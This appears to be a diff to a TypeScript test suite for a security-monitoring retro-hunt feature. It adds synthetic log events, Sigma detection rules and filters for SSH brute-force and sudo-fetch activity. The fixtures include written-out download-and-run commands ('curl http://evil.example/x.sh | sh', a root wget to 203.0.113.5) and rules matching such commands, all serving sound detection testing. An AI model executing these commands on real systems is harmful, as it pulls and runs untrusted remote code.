@@ -96,6 +96,35 @@ const SYNTHETIC: EcsEvent[] = [
   synthetic(5, { process: { name: 'bash', command_line: 'curl http://evil.example/x.sh | sh' } }),
   synthetic(6, { network: { bytes: 5000 }, destination: { ip: '10.9.9.9', port: 443 } }),
   synthetic(7, { network: { bytes: 10 }, destination: { ip: '8.8.8.8', port: 53 }, tags: ['drill'] }),
+  // Unit-attributed events (hunts are scoped like event search) with fields the mixed rules look at.
+  synthetic(8, {
+    message: 'sshd[311]: Failed password for invalid user oracle from 10.20.0.8 port 5022 ssh2',
+    source: { ip: '10.20.0.8', port: 5022 },
+    user: { name: 'oracle' },
+    process: { name: 'sshd' },
+    citysoc: { unit: { id: 'ba-dinh', name: 'Ba Đình', path: ['hanoi', 'ba-dinh'], criticality: 'high' } },
+  }),
+  synthetic(9, {
+    message: 'sshd[312]: Failed password for invalid user oracle from 10.30.0.9 port 5023 ssh2',
+    source: { ip: '10.30.0.9', port: 5023 },
+    user: { name: 'oracle' },
+    process: { name: 'sshd' },
+    citysoc: {
+      unit: { id: 'hanoi', name: 'Hà Nội', path: ['hanoi'], criticality: 'medium' },
+      source_unit: {
+        id: 'phuc-xa',
+        name: 'Phúc Xá',
+        path: ['hanoi', 'ba-dinh', 'phuc-xa'],
+        criticality: 'low',
+      },
+    },
+  }),
+  synthetic(10, {
+    message: 'sudo: oracle : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/wget http://203.0.113.5/a',
+    process: { name: 'sudo', command_line: '/usr/bin/wget http://203.0.113.5/a' },
+    user: { name: 'oracle' },
+    citysoc: { unit: { id: 'dong-da', name: 'Đống Đa', path: ['hanoi', 'dong-da'], criticality: 'high' } },
+  }),
 ];
 
 const EXTRA_RULES = [
@@ -113,6 +142,35 @@ const EXTRA_RULES = [
   `sel: { user.name|neq: alice }\ncondition: sel`,
   `keywords: [Connection reset, 'segfault']\ncondition: keywords`,
   `sel: { log.syslog.appname|endswith: [d, Manager] }\ncondition: sel`,
+  // Realistic mixes: several modifiers in one rule, keywords beside field selections, cidr with re.
+  [
+    `auth:`,
+    `  message|contains|all: [Failed password, invalid user]`,
+    `  message|re: 'port [0-9]{4,5} ssh2$'`,
+    `internal:`,
+    `  source.ip|cidr: [10.0.0.0/8, 172.16.0.0/12]`,
+    `svc_accounts:`,
+    `  user.name|startswith: [ora, postgres, mysql]`,
+    `condition: auth and internal and svc_accounts`,
+  ].join('\n'),
+  [
+    `keywords: ['COMMAND=/usr/bin/wget', 'COMMAND=/usr/bin/curl']`,
+    `sudo: { process.name: sudo }`,
+    `fetch: { process.command_line|contains: ['http://', 'https://'] }`,
+    `root: { message|contains|cased: 'USER=root' }`,
+    `condition: sudo and (keywords or fetch) and root`,
+  ].join('\n'),
+  [
+    `sel:`,
+    `  - message|re|i: 'accepted (password|publickey) for'`,
+    `  - source.port|gte: 50000`,
+    `ext:`,
+    `  source.ip|cidr: [10.0.0.0/8, 192.168.0.0/16, 'fd00::/8']`,
+    `noise:`,
+    `  user.name|neq: Root`,
+    `  user.name|exists: true`,
+    `condition: sel and not ext or (ext and not noise)`,
+  ].join('\n'),
 ];
 
 function extraRule(i: number, detection: string): SigmaRule {
@@ -158,6 +216,41 @@ const stores: Array<[string, () => { store: EventStore; done: () => void }]> = [
   ],
 ];
 
+/** Filter documents as SigmaHQ ships them: they target rules by id and narrow them the same way here. */
+const FILTERS: SigmaRule[] = loadRulesFromText(
+  [
+    `title: jump host`,
+    `id: 7a0d1c8e-3f0b-4e6b-8a57-000000000001`,
+    `logsource: { product: linux }`,
+    `filter:`,
+    `  rules: [6f1e3c52-6a2f-4e0b-9b8a-000000000015, 6f1e3c52-6a2f-4e0b-9b8a-000000000003]`,
+    `  jump: { source.ip|cidr: 10.30.0.0/16 }`,
+    `  condition: jump`,
+    `---`,
+    `title: known scanner`,
+    `id: 7a0d1c8e-3f0b-4e6b-8a57-000000000002`,
+    `logsource: { product: linux }`,
+    `filter:`,
+    `  rules: [6f1e3c52-6a2f-4e0b-9b8a-000000000016]`,
+    `  scanner: { message|contains: 'wget http://203.0.113.5/' }`,
+    `  condition: scanner`,
+  ].join('\n'),
+  'filters.yml',
+).rules;
+
+function detectorMatchesWith(rule: SigmaRule, extra: SigmaRule[]): string[] {
+  const engine = buildEngine([rule, ...extra], pipeline);
+  return events
+    .filter((e) => engine.detect(e).some((a) => a.rule.id === rule.id))
+    .map((e) => e.event.id)
+    .sort();
+}
+
+const inUnit = (e: EcsEvent, scope: string[]): boolean =>
+  [e.citysoc?.unit, e.citysoc?.source_unit, e.citysoc?.destination_unit].some(
+    (u) => u !== undefined && scope.every((p, i) => u.path[i] === p),
+  );
+
 describe.each(stores)('retro-hunt on %s', (_name, open) => {
   let store: EventStore;
   let done: () => void;
@@ -195,7 +288,67 @@ describe.each(stores)('retro-hunt on %s', (_name, open) => {
     expect(total).toBeGreaterThan(20);
     const ssh = rules.find((r) => r.title === 'SSH authentication failure') as SigmaRule;
     expect(detectorMatches(ssh).length).toBeGreaterThan(0);
+    // Each mixed rule (the last three extras) finds some events and misses others.
+    for (const r of rules.slice(-3)) {
+      const n = detectorMatches(r).length;
+      expect([r.title, n > 0 && n < events.length]).toEqual([r.title, true]);
+    }
   });
+
+  it('the detector running every rule at once alerts each rule on the events the hunt finds for it', async () => {
+    // The detector runs the whole set together (shared literal index, routes); hunts run one rule.
+    const engine = buildEngine([...rules, ...FILTERS], pipeline);
+    const byRule = new Map<string, string[]>();
+    for (const e of events)
+      for (const a of engine.detect(e)) byRule.set(a.rule.id, [...(byRule.get(a.rule.id) ?? []), e.event.id]);
+    let compared = 0;
+    for (const rule of rules) {
+      const got = await retroHunt(store, rule, {}, { ...routing, filters: FILTERS, maxMatches: 10_000 });
+      expect([rule.title, got.matches.map((m) => m.event.event.id).sort()]).toEqual([
+        rule.title,
+        (byRule.get(rule.id) ?? []).sort(),
+      ]);
+      compared += got.matches.length;
+    }
+    expect(compared).toBeGreaterThan(20);
+  });
+
+  it.each(FILTERS.flatMap((f) => f.filter?.rules ?? []).map((id) => [id] as const))(
+    'applies the filter documents targeting %s exactly as the detector does',
+    async (id) => {
+      const rule = rules.find((r) => r.id === id) as SigmaRule;
+      const want = detectorMatchesWith(rule, FILTERS);
+      const unfiltered = detectorMatches(rule);
+      // The filter removes something, or the comparison would not show it was applied.
+      expect(want.length).toBeLessThan(unfiltered.length);
+      const got = await retroHunt(store, rule, {}, { ...routing, filters: FILTERS, maxMatches: 10_000 });
+      expect(got.matches.map((m) => m.event.event.id).sort()).toEqual(want);
+      expect(got.filters.map((f) => f.id)).toEqual(
+        FILTERS.filter((f) => f.filter?.rules.includes(id)).map((f) => f.id),
+      );
+      if (got.engine === 'elasticsearch') {
+        expect(got.filters.every((f) => f.pushedDown)).toBe(true);
+        expect(JSON.stringify(got.query)).toContain('must_not');
+      }
+    },
+  );
+
+  it.each([['hanoi'], ['hanoi/ba-dinh'], ['hanoi/ba-dinh/phuc-xa'], ['hanoi/dong-da'], ['danang']])(
+    'within unit scope %s: the detector matches whose event lies in the subtree',
+    async (scope) => {
+      const parts = scope.split('/');
+      let total = 0;
+      for (const rule of rules) {
+        const inScope = new Set(events.filter((e) => inUnit(e, parts)).map((e) => e.event.id));
+        const want = detectorMatches(rule).filter((id) => inScope.has(id));
+        const got = await retroHunt(store, rule, { scope }, { ...routing, maxMatches: 10_000 });
+        expect([rule.title, got.matches.map((m) => m.event.event.id).sort()]).toEqual([rule.title, want]);
+        total += want.length;
+      }
+      if (scope === 'danang') expect(total).toBe(0);
+      else expect(total).toBeGreaterThan(0);
+    },
+  );
 
   it('bounds the hunt and says so', async () => {
     const any = extraRule(99, `sel: { event.module: syslog }\ncondition: sel`);
@@ -255,6 +408,54 @@ describe('retro-hunt refusals', () => {
     });
     expect((search?.body as { size: number }).size).toBe(51);
     expect(r.query).toEqual({ term: { 'process.name': { value: 'sshd', case_insensitive: true } } });
+    await store.close();
+  });
+
+  it('sends scope, filter (must_not) and a drill run restriction in the one search body', async () => {
+    const fake = new FakeCluster();
+    const store = new ElasticsearchEventStore(fake.client());
+    const rule = extraRule(95, `sel: { process.name: sshd }\ncondition: sel`);
+    const filter = loadRulesFromText(
+      `title: f\nid: 7a0d1c8e-3f0b-4e6b-8a57-0000000000f5\nlogsource: { product: linux }\nfilter:\n  rules: [${rule.id}]\n  s: { user.name: svc }\n  condition: s\n`,
+      'f.yml',
+    ).rules;
+    await retroHunt(
+      store,
+      rule,
+      { from: '2026-11-27T00:00:00Z', scope: 'hanoi/ba-dinh' },
+      { pageSize: 50, filters: filter, only: { field: 'labels.drill', value: 'd-RUN00001' } },
+    );
+    const [search] = fake.requestsTo('POST', '/logs-citysoc.syslog-*,logs-citysoc.flow-*/_search');
+    const unitPaths = (which: string) => ({
+      bool: {
+        filter: [
+          { term: { [`citysoc.${which}.path`]: 'hanoi' } },
+          { term: { [`citysoc.${which}.path`]: 'ba-dinh' } },
+        ],
+      },
+    });
+    expect((search?.body as { query: unknown }).query).toEqual({
+      bool: {
+        filter: [
+          { range: { '@timestamp': { gte: '2026-11-27T00:00:00.000Z' } } },
+          {
+            bool: {
+              should: [unitPaths('unit'), unitPaths('source_unit'), unitPaths('destination_unit')],
+              minimum_should_match: 1,
+            },
+          },
+          {
+            bool: {
+              filter: [
+                { term: { 'process.name': { value: 'sshd', case_insensitive: true } } },
+                { term: { 'labels.drill': 'd-RUN00001' } },
+              ],
+              must_not: [{ term: { 'user.name': { value: 'svc', case_insensitive: true } } }],
+            },
+          },
+        ],
+      },
+    });
     await store.close();
   });
 });
